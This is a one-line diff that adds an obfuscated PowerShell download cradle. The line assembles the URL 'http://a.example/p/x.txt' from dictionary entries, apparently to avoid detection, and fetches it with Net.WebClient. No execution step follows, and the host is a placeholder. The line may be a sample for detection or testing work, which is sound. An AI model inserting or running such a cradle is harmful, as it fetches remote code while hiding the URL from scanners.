@@ -1,0 +1,1 @@
+$d=New-Object 'System.Collections.Generic.Dictionary[string,string]';$d.Add('a','http://a.example');$d.Add('b','/p/x.txt');(New-Object Net.WebClient).DownloadString($d['a']+$d['b'])
